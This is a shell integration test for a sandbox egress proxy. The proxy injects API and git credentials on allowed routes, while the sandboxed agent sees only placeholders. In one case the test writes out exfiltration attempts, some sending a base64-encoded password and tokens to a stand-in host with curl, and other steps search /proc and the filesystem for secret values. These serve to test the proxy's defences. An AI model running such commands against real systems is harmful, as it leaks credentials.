# Routes: a credential goes along with what the agent sends, and the agent never holds it.
# shellcheck disable=SC2016,SC2046
. "${0%/*}/lib.sh"

log=$IT_WORK/routed.log
: >"$log"
python3 "${0%/*}/routed_api.py" "$UP_DIR/routed" "$log" "$UP_DIR/www" &
api=$!
trap 'kill $api; rm -f "$UP_DIR/routed"' EXIT
wait_for 10 test -S "$UP_DIR/routed"

# What routes send, none of which a pattern knows.
token="Xk7+q$IT_RUN/R2~9wZb4%v" key="mK93-$IT_RUN.bQz7Lw" pass="tr0ub4dor&3x-$IT_RUN"
export ACME_TOKEN="$token" OPERATORS_KEY="$key" GIT_PASS="$pass"
site_
manifest_ '{"env":{"ACME_KEY":{"from_env":"OPERATORS_KEY"}},"egress_proxy":{"routes":[
  {"Host":"api.good.test","methods":["GET","POST"],"paths":["/routed/acme/"],
   "auth":{"scheme":"bearer","token_env":"ACME_TOKEN"}},
  {"Host":"m.good.test","auth":{"scheme":"header","header":"x-api-key","token_env":"ACME_KEY"}},
  {"Host":"git.good.test","paths":["/routed/git/app.git"],"methods":["GET"],
   "auth":{"scheme":"basic","token_env":"GIT_PASS"}}]}}'

# no_value_: none of the values stands in what came out of the last command.
no_value_() {
	for value in "$token" "$key" "$pass"; do
		refuse_out "$value"
		refuse_err "$value"
	done
}
# saw_ FILTER: a request reached the upstream of which this is true; sent NAME gives the values of its header.
saw_() {
	off || jq -es 'def sent(n): [.fields[] | select(.[0] == n) | .[1]];
		any(.[]; '"$1"')' --arg token "$token" --arg key "$key" --arg pass "$pass" "$log" >/dev/null ||
		bad "the upstream saw no request with $1"
}
got_nothing_() { expect "nothing reached the upstream" [ ! -s "$log" ]; }

s=$(slug_ routes)
case_ "the plan says where each credential goes, and nothing of it"
(cd "$site/project" && run_ "$BOTTLE" run -m "$site/bottle.json" --name x "$site/policy.lua" root --dry-run)
expect_err "routes:          api.good.test GET,POST /routed/acme/ + bearer ACME_TOKEN"
expect_err "ACME_TOKEN (placeholder)"
no_value_

up_ "$s" root || echo "# the bottle did not come up: $(cat "$err")"

case_ "curl with what it holds, or with nothing, is sent along with the credential alone, and cannot read it in the answer"
sh_ "$s" 'curl -sS -D - -H "Authorization: Bearer $ACME_TOKEN" -H "authorization: token mine" https://api.good.test/routed/acme/held
	curl -sS -D - -d a=b https://api.good.test/routed/acme/bare'
expect_status 0
saw_ '.path == "/routed/acme/held" and sent("authorization") == ["Bearer " + $token]'
saw_ '.path == "/routed/acme/bare" and .method == "POST" and .body == "a=b" and sent("authorization") == ["Bearer " + $token]'
saw_ '.path == "/routed/acme/held" and ((tostring | contains("bottle-ACME_TOKEN")) | not)'
expect_out '"path": "/routed/acme/held"'
expect_out '"Bearer **'
expect_out '-echo: Bearer **'
no_value_

case_ "in the bottle there are placeholders: variables, processes and files have nothing else"
sh_ "$s" 'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\0" "\n"
	for name in ACME_TOKEN ACME_KEY GIT_PASS; do
		eval "value=\$$name"
		case $value in bottle-$name-????????????????????????) echo "$name stands for it" ;; esac
	done'
for name in ACME_TOKEN ACME_KEY GIT_PASS; do expect_out "$name stands for it"; done
no_value_
printf '%s\n' "$token" "$key" "$pass" |
	feed_ "$BOTTLE" exec "$s" -- sh -c 'cat >/dev/shm/want; cd /; for d in "$OLDPWD" etc tmp var run root home opt; do
		find "$d" -xdev -type f -exec grep -lF -f /dev/shm/want {} + 2>/dev/null; done; wc -l </dev/shm/want; rm /dev/shm/want'
expect "every file was looked at, and none has one" [ "$(tr -d ' \n' <"$out")" = 3 ]

case_ "python and node are sent along too, by their header"
: >"$log"
sh_ "$s" 'python3 -c "
import os, requests
print(requests.get(\"https://m.good.test/routed/python\", headers={\"x-api-key\": os.environ[\"ACME_KEY\"]}).text)"
	node -e "
const https = require(\"https\");
https.get({ host: \"m.good.test\", path: \"/routed/node\", headers: { \"X-Api-Key\": process.env.ACME_KEY } },
	(r) => r.pipe(process.stdout));"'
expect_status 0
for client in python node; do
	expect_out "\"path\": \"/routed/$client\""
	saw_ '.path == "/routed/'$client'" and sent("x-api-key") == [$key]'
done
no_value_

case_ "git clones with no credential in the box"
: >"$log"
sh_ "$s" 'cd /tmp && GIT_TERMINAL_PROMPT=0 git clone -q https://git.good.test/routed/git/app.git cloned && cat cloned/README && cat cloned/.git/config'
expect_status 0
expect_out "hello from the repository"
saw_ '.path == "/routed/git/app.git/HEAD" and sent("authorization") == ["Basic " + ("x-access-token:" + $pass | @base64)]'
no_value_

case_ "another path, method or repository is refused, and told why"
: >"$log"
sh_ "$s" 'for try in "https://api.good.test/routed/other" "https://api.good.test/routed/acme/../other" \
	"-X DELETE https://api.good.test/routed/acme/x" "http://api.good.test/routed/acme/x" \
	"https://git.good.test/routed/git/app.github/HEAD"; do
		curl -sS --path-as-is -o /dev/null -w "%{http_code}\n" $try
	done; curl -sS https://api.good.test/routed/other; git ls-remote https://git.good.test/routed/git/other.git'
expect "five were refused" [ "$(grep -c '^403$' "$out")" -eq 5 ]
expect_out "route"
got_nothing_
expect_event "$s" '.scanner == "route" and .host == "api.good.test" and .path == "/routed/other" and .verdict == "block"'

case_ "a placeholder goes nowhere else: another host, a body, an address, a code"
: >"$log"
sh_ "$s" 'c() { curl -sS -o /dev/null -w "%{http_code}\n" "$@"; }
	c -H "Authorization: Bearer $ACME_TOKEN" https://a.wild.test/routed/other
	c -H "X-Api-Key: $ACME_TOKEN" https://m.good.test/routed/other
	c -d "$ACME_TOKEN" https://api.good.test/routed/acme/body
	c "https://a.wild.test/routed/?$ACME_KEY"
	printf "x%s" "$GIT_PASS" | base64 -w0 | c -d @- https://a.wild.test/routed/other
	curl -sS -D - -d "$ACME_KEY" https://a.wild.test/routed/other'
expect "all were refused" [ "$(grep -c '^403$' "$out")" -eq 5 ]
grep -qi "^x-bottle-reason: placeholder; Placeholder (ACME_KEY)" "$out" || bad "the reason is not told"
got_nothing_
expect_event "$s" '.pattern == "Placeholder (ACME_TOKEN)" and .verdict == "block"'

case_ "nor are the values anywhere on the host: the gate's process, what keeps the bottle, its files, the engine"
look_() {
	for pid in "$@"; do
		run_ sh -c 'cat "/proc/$0/environ" "/proc/$0/cmdline"; for f in /proc/$0/fd/*; do [ ! -f "$f" ] || cat "$f"; done' "$pid"
		expect "process $pid is there to be looked at" kill -0 "$pid"
		no_value_
	done
	[ $# -gt 0 ] || bad "no process was found"
}
look_ $(off || gate_pid "$s")
# What keeps it, and its sandbox as it is seen from outside.
family_() { for pid in "$@"; do echo "$pid" && family_ $(pgrep -P "$pid"); done; }
[ "$IT_BACKEND" = docker ] || look_ $(off || family_ $(pgrep -f -- "--name $s "))
run_ "$BOTTLE" logs "$s" --format json
expect_out '"redacted"'
no_value_
run_ grep -rlF -e "$token" -e "$key" -e "$pass" "$XDG_STATE_HOME" "$site"
refuse_out /
if [ "$IT_BACKEND" = docker ]; then
	run_ docker inspect "bottle-gate-$s" "bottle-agent-$s"
	expect_out 'bottle-ACME_TOKEN-'
	no_value_
	run_ docker logs "bottle-gate-$s"
	no_value_
	run_ sh -c 'docker export "bottle-gate-$0" | grep -cF -e "$1" -e "$2" -e "$3"' "$s" "$token" "$key" "$pass"
	expect_out 0
fi
off || down_ "$s"
expect_nothing_left "$s"

case_ "nor are they natively while it runs in the foreground, where the sandbox is begun first"
needs_ native "its processes are in containers"
if ! off; then
	mkfifo "$site/project/go"
	"$site_run" "$s" root -- sh -c 'touch here; read -r _ <go' >"$IT_WORK/run" 2>&1 </dev/null &
	run=$!
	wait_for 10 test -e "$site/project/here" || bad "it did not come up: $(cat "$IT_WORK/run")"
	look_ $(family_ $run)
	timeout 10 sh -c 'echo go >"$0"' "$site/project/go" || bad "it does not read"
	wait $run || bad "it failed"
fi
expect_nothing_left "$s"
done_
